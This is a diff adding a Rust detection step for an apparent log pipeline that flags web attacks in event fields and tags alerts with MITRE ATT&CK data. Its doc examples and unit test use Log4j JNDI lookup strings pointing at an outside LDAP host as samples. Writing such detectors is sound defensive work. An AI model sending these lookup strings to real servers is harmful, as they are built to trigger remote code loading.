@@ -1,0 +1,213 @@
+//! `detect`: what is an attack in a field is written to `detections`, and the event becomes an alert.
+
+use super::{Context, Flow, Step};
+use crate::detect::{Found, Hit, Judge, Kind, Pool, Technique, write_detection};
+use crate::event::{Layout, Row, Slot, Value, raw, write_string};
+use crate::limits::{DETECTIONS_MAX, ROW_ARENA_BYTES_MAX};
+use crate::signature::{Example, Signature};
+
+/// What `detect` says of itself.
+pub(super) static SIGNATURE: Signature = Signature {
+    name: "detect",
+    summary: "looks for attacks in fields; what is found goes to `detections`",
+    doc: "Each detection is an object with `detector`, `class`, `rule`, `field`, `evidence`, `technique` (of MITRE ATT&CK) \
+          and `score`; a field has at most one of each class. An event with a detection gets `event.kind` \"alert\" and \
+          the `threat.*` fields of ECS; others stay as they were. A condition on `.detections.class` holds where it holds \
+          of one of them. What kind of text a field holds is known by its ECS name (`url.query`, `url.path`, \
+          `url.original`, `user_agent.original`, `http.request.referrer`, `message` …); any other is taken for one \
+          value. `aludel list detectors` shows them all, `aludel detect` tries one on lines.",
+    form: "detect DETECTOR on .FIELD, … { OPTION = VALUE }",
+    options: &[],
+    examples: &[
+        Example {
+            title: "a lookup that Log4j would follow",
+            source: "detect web_attack on .user_agent.original",
+            input: r#"{"user_agent":{"original":"${${lower:J}ndi:ldap://203.0.113.9/a}"}}"#,
+            result: r#"{"detections":[{"detector":"web_attack","class":"jndi","rule":"lookup","field":"user_agent.original","evidence":"${${lower:J}ndi:ldap://203.0.113.9/a}","technique":"T1190","score":100}],"event":{"kind":"alert"},"threat":{"framework":"MITRE ATT&CK","tactic":{"id":["TA0001"],"name":["Initial Access"]},"technique":{"id":["T1190"],"name":["Exploit Public-Facing Application"]}},"user_agent":{"original":"${${lower:J}ndi:ldap://203.0.113.9/a}"}}"#,
+        },
+        Example {
+            title: "an event that others may have looked at",
+            source: "set .jndi = .detections.class == \"jndi\", .least = .detections.score ?? []",
+            input: r#"{"detections":[{"class":"xss","score":80},{"class":"jndi","score":100}]}"#,
+            result: r#"{"detections":[{"class":"xss","score":80},{"class":"jndi","score":100}],"jndi":true,"least":[80,100]}"#,
+        },
+        Example {
+            title: "what is no attack stays as it was",
+            source: "detect web_attack on .url.query { sensitivity = high }",
+            input: r#"{"url":{"query":"id=7&sort=name"}}"#,
+            result: r#"{"url":{"query":"id=7&sort=name"}}"#,
+        },
+    ],
+};
+
+/// What a worker's detectors work with, used again for every event.
+#[derive(Debug, Default)]
+pub(super) struct Desk {
+    pool: Pool,
+    hits: Vec<Hit>,
+    found: Vec<Found>,
+    /// Which field each was found in.
+    fields: Vec<usize>,
+}
+
+/// A part of a technique.
+type Part = fn(&Technique) -> &'static str;
+
+/// `detect NAME on .FIELD, …`
+pub struct Detect {
+    judge: Judge,
+    /// Slot, name and kind of each field.
+    inputs: Box<[(Slot, Box<str>, Kind)]>,
+    detections: Slot,
+    event_kind: Slot,
+    framework: Slot,
+    /// The four lists of `threat.*`, and what they take of a technique.
+    lists: [(Slot, Part); 4],
+}
+
+impl Detect {
+    /// A detector on fields; `gives` are the slots of the fields that it writes, as the checker lists them.
+    pub fn new(layout: &Layout, inputs: &[Slot], judge: Judge, gives: &[Slot]) -> Result<Self, String> {
+        let &[detections, event_kind, framework, tactic_id, tactic, technique_id, technique] = gives else {
+            return Err("a detector writes seven fields".to_owned());
+        };
+        let input = |slot: &Slot| {
+            let path = layout.path(*slot);
+            (*slot, path.into(), Kind::of_field(path))
+        };
+        Ok(Self {
+            judge,
+            inputs: inputs.iter().map(input).collect(),
+            detections,
+            event_kind,
+            framework,
+            lists: [
+                (tactic_id, |of| of.tactic_id),
+                (tactic, |of| of.tactic),
+                (technique_id, |of| of.id),
+                (technique, |of| of.name),
+            ],
+        })
+    }
+
+    /// Writes what was found into the event.
+    fn report(&self, row: &mut Row, desk: &Desk) {
+        let values: Vec<_> =
+            self.inputs.iter().map(|(slot, ..)| row.read(*slot).and_then(Value::span)).collect();
+        let mut out = row.texts.scratch();
+        let before = list_of(row, self.detections, &mut out);
+        let room = DETECTIONS_MAX.saturating_sub(before);
+        for (found, input) in desk.found.iter().zip(&desk.fields).take(room) {
+            let value = values[*input].map_or(&[][..], |span| row.texts.bytes(span));
+            if out.len() > 1 {
+                out.push(b',');
+            }
+            write_detection(found, &self.inputs[*input].1, value, &mut out);
+        }
+        out.push(b']');
+        let list = row.texts.keep(out);
+        row.write(self.detections, Value::List(list));
+        let kind = row.texts.push(b"alert");
+        row.write(self.event_kind, Value::Text(kind));
+        let framework = row.texts.push(b"MITRE ATT&CK");
+        row.write(self.framework, Value::Text(framework));
+        for (slot, part) in &self.lists {
+            let mut out = row.texts.scratch();
+            list_of(row, *slot, &mut out);
+            for found in &desk.found {
+                add_text(part(found.class.technique), &mut out);
+            }
+            out.push(b']');
+            let list = row.texts.keep(out);
+            row.write(*slot, Value::List(list));
+        }
+    }
+}
+
+/// Writes a list without its closing bracket: what the field holds, if it is a list. Gives the number of items.
+fn list_of(row: &mut Row, slot: Slot, out: &mut Vec<u8>) -> usize {
+    out.push(b'[');
+    let Some(Value::List(list)) = row.read(slot) else { return 0 };
+    let text = row.texts.bytes(list);
+    let items = raw::items(text);
+    for (at, item) in items.iter().enumerate() {
+        if at > 0 {
+            out.push(b',');
+        }
+        out.extend_from_slice(&text[item.clone()]);
+    }
+    items.len()
+}
+
+/// Adds a text to a list that is open, unless it is in it.
+fn add_text(text: &str, out: &mut Vec<u8>) {
+    let mut quoted = Vec::new();
+    write_string(text, &mut quoted);
+    if memchr::memmem::find(out, &quoted).is_some() {
+        return;
+    }
+    if out.len() > 1 {
+        out.push(b',');
+    }
+    out.extend_from_slice(&quoted);
+}
+
+impl Step for Detect {
+    fn run(&self, row: &mut Row, cx: &mut Context<'_>) -> Flow {
+        let desk = &mut cx.work.detect;
+        desk.found.clear();
+        desk.fields.clear();
+        for (at, (slot, _, kind)) in self.inputs.iter().enumerate() {
+            if let Some(Value::Text(span)) = row.read(*slot) {
+                let bytes = row.texts.bytes(span);
+                self.judge.find(bytes, *kind, &desk.pool, &mut desk.hits, &mut desk.found);
+                desk.fields.resize(desk.found.len(), at);
+            }
+        }
+        if !desk.found.is_empty() && row.texts.derived_bytes() <= ROW_ARENA_BYTES_MAX {
+            self.report(row, desk);
+        }
+        Flow::Next
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::Work;
+    use super::super::testing::{json, row, run};
+    use super::*;
+    use crate::event::Options;
+
+    const GIVES: [&str; 7] = [
+        "detections",
+        "event.kind",
+        "threat.framework",
+        "threat.tactic.id",
+        "threat.tactic.name",
+        "threat.technique.id",
+        "threat.technique.name",
+    ];
+
+    #[test]
+    fn a_second_step_adds_to_what_the_first_found() {
+        let attack = "${jndi:ldap://203.0.113.9/a}";
+        let event = format!(r#"{{"url":{{"query":"x={attack}"}},"note":"{attack}"}}"#);
+        let mut paths = vec!["url.query", "note"];
+        paths.extend(GIVES);
+        let mut row = row(&paths, &event);
+        let layout = row.layout().clone();
+        let slot = |path: &str| layout.slot(path).expect("named");
+        let gives = GIVES.map(slot);
+        let mut work = Work::default();
+        for path in ["url.query", "note"] {
+            let judge = Judge::new("web_attack", &Options::default()).expect("a detector");
+            let step = Detect::new(&layout, &[slot(path)], judge, &gives).expect("seven fields");
+            assert_eq!(run(&step, &mut row, &mut work).0, Flow::Next);
+        }
+        let event: serde_json::Value = serde_json::from_str(&json(&row)).expect("json");
+        let fields: Vec<_> =
+            event["detections"].as_array().expect("a list").iter().map(|of| &of["field"]).collect();
+        assert_eq!(fields, ["url.query", "note"]);
+        assert_eq!(event["threat"]["technique"]["id"], serde_json::json!(["T1190"]));
+    }
+}
